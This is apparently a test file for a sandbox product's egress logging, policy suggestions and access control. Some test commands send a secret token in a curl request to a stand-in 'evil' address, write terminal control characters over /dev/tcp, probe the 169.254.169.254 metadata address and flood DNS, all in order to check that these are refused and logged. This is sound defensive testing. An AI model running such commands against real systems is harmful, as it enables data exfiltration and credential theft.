/** The outbound connections of sandboxes, as their owner sees them: over HTTP, on the command line, live and after the end. */

import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { hashKey } from "../../../src/daemon/secrets.ts";
import { openStore } from "../../../src/store/sql-store.ts";
import type { TestDaemon } from "../../harness/daemon.ts";
import { eventually, root } from "../../harness/harness.ts";
import { openInternet } from "../../internet/internet.ts";
import { startDaemonOn } from "../../internet/internet-daemon.ts";
import { blockLength, evilAddress, otherAddress, webAddress, webAddress6 } from "../../internet/internet-names.ts";
import { has, needs } from "../../runner/needs.ts";
import { type AnySandbox, accessTo, createUnder, type Policy, raw, sdks } from "../clients.ts";
import { egressPage, lineWith } from "./egress-lines.ts";

const { Sandbox } = sdks["3.5.0"];
const secret = `secret-${randomBytes(16).toString("hex")}`;
const undo = new AsyncDisposableStack();
let daemon: TestDaemon;

beforeAll(async () => {
  if (!has("root")) return;
  const internet = await openInternet(undo);
  daemon = await startDaemonOn(internet, undo);
});
afterAll(() => undo.disposeAsync());
beforeEach((context) => needs(context, "root", "the command curl", "the command python3"));

describe("a program that is refused can act on it, and its owner sees why", () => {
  let sandbox: AnySandbox;
  beforeAll(async () => {
    if (!has("root")) return;
    sandbox = await create({ allow: ["web.test"] });
    return () => sandbox.delete();
  });

  test("in plain HTTP a page says which rule is missing", async () => {
    const { stdout } = await run(sandbox, `curl -s -w '%{http_code}' 'http://${evilAddress}/path?token=${secret}'`);
    expect(stdout).toMatch(/403$/);
    expect(JSON.parse(stdout.slice(0, -3)).error).toEqual({
      code: "egress_denied",
      message: `Cannot GET http://${evilAddress}/path: the policy does not allow ${evilAddress}: plain HTTP is allowed by subnet only; add "${evilAddress}/32" to "subnets.allow", or use https and allow its name`,
      reason: `the policy does not allow ${evilAddress}: plain HTTP is allowed by subnet only`,
      host: evilAddress,
      address: evilAddress,
      port: 80,
      method: "GET",
      path: "/path",
      missing: { subnets: { allow: [`${evilAddress}/32`] } },
    });
    expect(await seen(sandbox, { protocol: "http", address: evilAddress })).toMatchObject({
      allowed: false,
      method: "GET",
      path: "/path",
      port: 80,
      missing: { subnets: { allow: [`${evilAddress}/32`] } },
    });
  });

  test("over TLS an alert says so", async () => {
    const { exitCode, stderr } = await run(sandbox, `curl -sSk --resolve x.test:443:${otherAddress} https://x.test/`);
    expect(exitCode).toBe(35);
    expect(stderr).toMatch(/alert access denied/i);
    expect(await seen(sandbox, { protocol: "tls", sni: "x.test" })).toMatchObject({
      allowed: false,
      address: otherAddress,
      reason: 'the policy does not allow "x.test"',
      missing: { allow: ["x.test"] },
    });
  });

  test("a name that is not allowed does not resolve, and an allowed one does", async () => {
    expect((await run(sandbox, "curl -sSk https://other.test/")).exitCode).toBe(6);
    expect(await seen(sandbox, { protocol: "dns", name: "other.test" })).toMatchObject({
      allowed: false,
      missing: { allow: ["other.test"] },
    });
    expect((await run(sandbox, "curl -sSk -4 https://web.test/")).exitCode).toBe(0);
    expect(await seen(sandbox, { protocol: "tls", name: "web.test", ended: 1 })).toMatchObject({
      allowed: true,
      rule: "allow web.test",
      address: webAddress,
      port: 443,
    });
  });

  test("the command line shows the same, without control characters for the terminal", async () => {
    await run(sandbox, `printf 'GET /\\033[2J\\302\\233 HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/${evilAddress}/81 && true`);
    await seen(sandbox, { port: 81, protocol: "http" });
    const { stdout } = await cli(sandbox.name);
    expect(stdout).toMatch(/^TIME +VERDICT +WHERE +WHAT +IN +OUT +WHO +WHY\n/);
    expect(stdout).toMatch(
      / (allowed|closed) +web\.test:443 +tls +[\d.]+ kB +\d+ bytes +(curl cmd_[0-9a-f]{8} +)?allow web\.test\n/,
    );
    expect(stdout).toMatch(
      / denied +other\.test +dns A +(curl cmd_[0-9a-f]{8} +)?the policy does not allow "other\.test"\n/,
    );
    expect(stdout).toMatch(
      / GET \/path +(curl cmd_[0-9a-f]{8} +)?the policy does not allow 93\.184\.216\.66: plain HTTP/,
    );
    expect(stdout).toMatch(/\nHOST +CONNECTIONS +IN +OUT\nweb\.test +1 /);
    expect(stdout).toContain("\\u001b[2J");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that there is none is the point
    expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    const json = (await cli(await sessionOf(sandbox), "--json")).stdout.trim().split("\n");
    const last = JSON.parse(json.pop() ?? "");
    expect(json.map((line) => JSON.parse(line))).toEqual((await page(sandbox)).events);
    expect(last.hosts[0].host).toBe("web.test");
  });

  test("a wrong name, a wrong key and a wrong option give a sentence", async () => {
    const failure = async (...args: string[]) => (await cli(...args).catch((error) => error)).stderr;
    expect(await failure("no-such-sandbox")).toMatch(/^sandkeep: Cannot show the egress log: .*not found/);
    expect(await failure(sandbox.name, "--unknown")).toMatch(
      /^sandkeep: Unknown option '--unknown'\nhint: sandkeep egress --help/,
    );
    expect(await failure(sandbox.name, "--suggest", "--follow")).toMatch(/^sandkeep: Cannot suggest /);
  });
});

test("a follower sees decisions live and ends with the session; the log stays after that and after a restart", async () => {
  const sandbox = await create({ allow: ["web.test"], subnets: { allow: [`${webAddress}/32`] } }, true);
  const session = await sessionOf(sandbox);
  const following = cli(sandbox.name, "--follow");
  let live = "";
  following.child.stdout?.on("data", (text) => {
    live += text;
  });
  await eventually("it follows", () => live.startsWith("TIME"));
  await run(sandbox, "curl -sk -4 https://web.test/; curl -sk https://other.test/");
  await eventually("it shows", () => /allowed +web\.test:443/.test(live) && /denied +other\.test/.test(live));
  // Open until the session ends, and still counted.
  const open = `import socket; s = socket.create_connection(("${webAddress}", 7)); s.send(b"x" * 600); s.recv(1); s.recv(1000)`;
  await sandbox.runCommand({ cmd: "python3", args: ["-c", open], detached: true });
  await eventually("it is open", () => live.includes("web.test:7 "));
  await sandbox.stop();
  const { stdout } = await following;
  const { events, hosts } = await page(session);
  const rows = stdout.split("\n\n")[0]?.split("\n").slice(1) ?? [];
  expect(rows).toHaveLength(events.length);
  await daemon.kill9();
  await daemon.start();
  const later = await page(session);
  expect(later).toMatchObject({ events, hosts, session: { id: session, state: "stopped" } });
  const position = later.events[1].id;
  expect((await page(session, `?after=${position}&limit=2`)).events).toEqual(events.slice(2, 4));
  const again = await Sandbox.get({ ...accessTo(daemon), name: sandbox.name, resume: true });
  expect((await page(sandbox)).events).toEqual([]);
  await again.delete();
});

test("the suggested policy allows what was seen and nothing else", async () => {
  const tries = [
    "curl -sSk -4 --max-time 10 https://web.test/",
    "curl -sSk -4 --max-time 10 https://a.other.test/",
    `curl -sS --fail --max-time 10 http://${otherAddress}/`,
    `python3 -c 'import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("${webAddress6}", 7)); s.send(b"x"); s.recv(1)'`,
  ];
  const reach = async (sandbox: AnySandbox) =>
    Promise.all(tries.map(async (each) => (await run(sandbox, each)).exitCode === 0));
  const open = await create("allow-all");
  await open.runCommand("curl", ["-s", "--max-time", "5", "http://169.254.169.254/"]);
  expect(await reach(open)).toEqual([true, true, true, true]);
  const { stdout, stderr } = await cli(open.name, "--suggest");
  const policy = JSON.parse(stdout);
  expect(policy).toEqual({
    allow: ["a.other.test", "web.test"],
    subnets: { allow: [`${webAddress6}/128`, `${otherAddress}/32`] },
  });
  expect(stderr).toMatch(/93\.184\.216\.35\/32 is for \S+ port 80: plain HTTP is allowed by subnet only/);
  expect(stderr).toContain(
    "169.254.169.254 port 80 is refused under every policy: 169.254.169.254 is link-local (SANDKEEP_EGRESS_ALLOW=",
  );
  await open.updateNetworkPolicy(policy);
  expect(await reach(open)).toEqual([true, true, true, true]);
  await open.updateNetworkPolicy({ allow: ["web.test"], subnets: { allow: [`${webAddress6}/128`] } });
  expect(await reach(open)).toEqual([true, false, false, true]);
  await open.updateNetworkPolicy({ allow: ["a.other.test"], subnets: { allow: [`${otherAddress}/32`] } });
  expect(await reach(open)).toEqual([false, true, true, false]);
  await open.delete();
});

test.for<Policy>(["deny-all", { allow: [] }])(
  "under %j everything is refused, logged and followed, and the suggested policy lets it through",
  async (nothing) => {
    const tries = [
      "curl -sSk -4 --max-time 10 https://web.test/",
      `curl -sS --fail --max-time 10 http://${otherAddress}/`,
      `python3 -c 'import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("${webAddress6}", 7)); s.send(b"x"); s.recv(1)'`,
      "curl -sS --fail --max-time 10 http://169.254.169.254/",
    ];
    const reach = async () => {
      const reached: boolean[] = [];
      for (const each of tries) reached.push((await run(sandbox, each)).exitCode === 0);
      return reached;
    };
    const sandbox = await create(nothing);
    const following = cli(sandbox.name, "--follow");
    expect(await reach()).toEqual([false, false, false, false]);
    const { stdout } = await cli(sandbox.name);
    const rows = stdout
      .split("\n")
      .slice(1)
      .map((row) => row.split(/ {2,}/).slice(1).join(" | "));
    expect(rows.map((row) => row.replace(/ ×\d+/, "").trim()).filter((row) => row !== "")).toEqual([
      "denied | web.test | dns A | the policy is deny-all",
      `denied | ${otherAddress}:80 | tcp | the policy is deny-all`,
      `denied | [${webAddress6}]:7 | udp | the policy is deny-all`,
      "denied | 169.254.169.254:80 | tcp | 169.254.169.254 is link-local (SANDKEEP_EGRESS_ALLOW=169.254.169.254/32 would open it)",
    ]);
    const suggestion = await cli(sandbox.name, "--suggest");
    const policy = JSON.parse(suggestion.stdout);
    expect(policy).toEqual({
      allow: ["web.test"],
      subnets: { allow: [`${webAddress6}/128`, `${otherAddress}/32`] },
    });
    expect(suggestion.stderr).toContain(
      `${otherAddress}/32 is for ${otherAddress} port 80: under deny-all its protocol stays unknown`,
    );
    await sandbox.updateNetworkPolicy(policy);
    expect(await reach()).toEqual([true, true, true, false]);
    await sandbox.stop();
    expect((await following).stdout).toMatch(/ denied +web\.test +dns A.*deny-all\n[\s\S]* allowed +web\.test:443 /);
    await sandbox.delete();
  },
);

test("bytes by host are exactly what servers got and sent, while the sandbox runs and afterwards", async () => {
  const sandbox = await create({ subnets: { allow: [`${webAddress}/32`, `${webAddress6}/128`] } });
  const up = 1_234_567;
  await run(
    sandbox,
    `python3 -c '
import socket
s = socket.create_connection(("${webAddress}", 9)); s.sendall(b"x" * ${up}); s.shutdown(1); assert len(s.recv(100)) == 64
s = socket.create_connection(("${webAddress6}", 19)); s.sendall(b"3\\n")
while s.recv(65536): pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("${webAddress}", 7))
for n in range(10): u.send(b"y" * 100); u.recv(100)
'`,
  );
  const tcp = { bytesIn: 64, bytesOut: up };
  const six = { host: webAddress6, connections: 1, bytesIn: 3 * blockLength, bytesOut: 2 };
  expect((await page(sandbox)).hosts).toEqual([{ host: webAddress, connections: 1, ...tcp }, six]);
  const session = await sessionOf(sandbox);
  await sandbox.stop();
  const { hosts, totals } = await eventually("datagrams are counted too", async () => {
    const now = await page(session);
    return now.hosts[0].connections === 2 ? now : undefined;
  });
  expect(hosts).toEqual([{ host: webAddress, connections: 2, bytesIn: 64 + 1000, bytesOut: up + 1000 }, six]);
  expect(totals.payload).toEqual({ bytesIn: 1064 + 3 * blockLength, bytesOut: up + 1002 });
  const stored = (await raw(daemon, "GET", `/v2/sandboxes/sessions/${session}`)).json.session;
  const { ingress: bytesIn, egress: bytesOut } = stored.networkTransfer;
  expect(totals.packets).toEqual({ bytesIn, bytesOut });
  for (const way of ["bytesIn", "bytesOut"]) {
    expect(totals.packets[way]).toBeGreaterThan(totals.payload[way]);
    // On a busy host packets are smaller and some are sent twice; counted twice they would be twice as much.
    expect(totals.packets[way]).toBeLessThan(totals.payload[way] * 1.5 + 10_000);
  }
});

test("no secret of a policy is in the log, whatever the result of a request", async () => {
  const rules = { "web.test": [{ transform: [{ headers: { Authorization: secret } }] }] };
  const sandbox = await create({ allow: rules });
  const good = await run(sandbox, `curl -sS -4 'https://web.test/a?key=${secret}'`);
  expect(JSON.parse(good.stdout).headers.authorization).toBe(secret);
  await run(sandbox, `curl -sSk -4 -H 'Host: ${secret}.test' https://web.test/; curl -sSk -4 https://web.test:444/`);
  expect(await seen(sandbox, { protocol: "https", status: 200 })).toMatchObject({
    name: "web.test",
    method: "GET",
    path: "/a",
    rule: "allow web.test, rule 1: set-headers",
  });
  const session = await sessionOf(sandbox);
  await eventually("every connection has ended", async () => {
    const tls = (await wholeLog(sandbox)).events.filter(({ protocol }) => protocol === "tls");
    const sum = (field: "count" | "ended") => tls.reduce((total, line) => total + (line[field] ?? 0), 0);
    return sum("count") > 0 && sum("ended") === sum("count");
  });
  const follow = raw(daemon, "GET", `/sandkeep/v1/sessions/${session}/egress?follow=true`);
  await sandbox.stop();
  // The request's own words may be repeated in the answer and the reason; the policy's are nowhere.
  const withoutHost = (text: string) => text.replaceAll(`${secret}.test`, "");
  for (const text of [
    JSON.stringify(await page(session)),
    (await follow).text,
    (await raw(daemon, "GET", `/sandkeep/v1/sessions/${session}/egress/suggestion`)).text,
    (await cli(session)).stdout,
    daemon.complaints(),
  ]) {
    expect(withoutHost(text)).not.toContain(secret);
  }
});

test("a flood of refusals is counted in few lines and delays no other sandbox", async () => {
  const sandbox = await create({ allow: ["web.test"] });
  const code = `
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("198.18.0.1", 53)); s.settimeout(5)
for n in range(4000):
    name = b"x%d" % n
    s.send(struct.pack(">HHHHHH", n, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\\4test\\0\\0\\1\\0\\1")
    while struct.unpack(">H", s.recv(2048)[:2])[0] != n: pass
print("asked")`;
  const flood = run(sandbox, `python3 -c '${code}'`);
  const neighbour = await create({ allow: ["web.test"] });
  expect((await run(neighbour, "curl -sSk -4 --max-time 20 https://web.test/")).exitCode).toBe(0);
  expect((await flood).stdout).toBe("asked\n");
  const { events } = await wholeLog(sandbox);
  const told = events.reduce((sum, { count = 0, dropped = 0 }) => sum + count + dropped, 0);
  expect(told).toBe(4000);
  await Promise.all([sandbox.delete(), neighbour.delete()]);
});

test("another team sees nothing of it, and no bad request causes a 5xx", async () => {
  const sandbox = await create({ allow: ["web.test"] });
  const key = await keyOfAnotherTeam();
  const session = await sessionOf(sandbox);
  for (const path of [`/sandkeep/v1/sessions/${session}/egress`, `/sandkeep/v1/sandboxes/${sandbox.name}/egress`]) {
    for (const rest of ["", "?follow=true", "/suggestion"]) {
      expect((await raw(daemon, "GET", path + rest, { key })).status).toBe(404);
      expect((await raw(daemon, "GET", path + rest, { key: "nobodys" })).status).toBe(401);
    }
    for (const query of ["?after=x", "?limit=0", "?follow=1", "?unknown=1", "?after=1&after=2"]) {
      const { status, json } = await raw(daemon, "GET", path + query);
      expect([status, json.error.code]).toEqual([400, "invalid"]);
    }
  }
  const foreign = `/sandkeep/v1/sandboxes/${sandbox.name}/egress?project=prj_default`;
  expect((await raw(daemon, "GET", foreign, { key })).status).toBe(403);
  await sandbox.delete();
});

function create(networkPolicy: Policy, persistent = false): Promise<AnySandbox> {
  return createUnder(daemon, networkPolicy, persistent);
}

async function run(sandbox: AnySandbox, script: string) {
  const done = await sandbox.runCommand("bash", ["-c", script]);
  return { exitCode: done.exitCode, stdout: await done.stdout(), stderr: await done.stderr() };
}

async function sessionOf(sandbox: AnySandbox): Promise<string> {
  return (await raw(daemon, "GET", `/v2/sandboxes/${sandbox.name}`)).json.session.id;
}

function page(of: AnySandbox | string, query?: string) {
  return egressPage(daemon, of, query);
}

interface Line {
  protocol?: string;
  count?: number;
  ended?: number;
  dropped?: number;
}

async function wholeLog(sandbox: AnySandbox): Promise<{ events: Line[] }> {
  const first = await page(sandbox);
  const events = [...first.events];
  for (let { more, next } = first; more; ) {
    const another = await page(sandbox, `?limit=1000&after=${next}`);
    events.push(...another.events);
    ({ more, next } = another);
  }
  return { events };
}

function seen(sandbox: AnySandbox, fields: Record<string, unknown>) {
  return lineWith(daemon, sandbox, fields);
}

const execute = promisify(execFile);

/** `sandkeep egress …`, as a user with the key in the environment runs it */
function cli(...args: string[]) {
  const env = { ...process.env, SANDKEEP_API_KEY: daemon.key, SANDKEEP_URL: daemon.url };
  return execute(process.execPath, [join(root, "src/main.ts"), "egress", ...args], { env });
}

async function keyOfAnotherTeam(): Promise<string> {
  const key = `sk_${randomBytes(20).toString("hex")}`;
  const at = { createdAt: Date.now() };
  const store = await openStore({ path: join(daemon.dataDir, "sandkeep.db") });
  await store.insertTeam({ id: "team_second", slug: "second", ...at });
  await store.insertProject({
    id: "prj_second",
    uuid: crypto.randomUUID(),
    teamId: "team_second",
    name: "default",
    ...at,
  });
  await store.insertKey({
    id: "key_second",
    teamId: "team_second",
    name: "second",
    hint: "",
    hash: hashKey(key),
    ...at,
  });
  await store.close();
  return key;
}
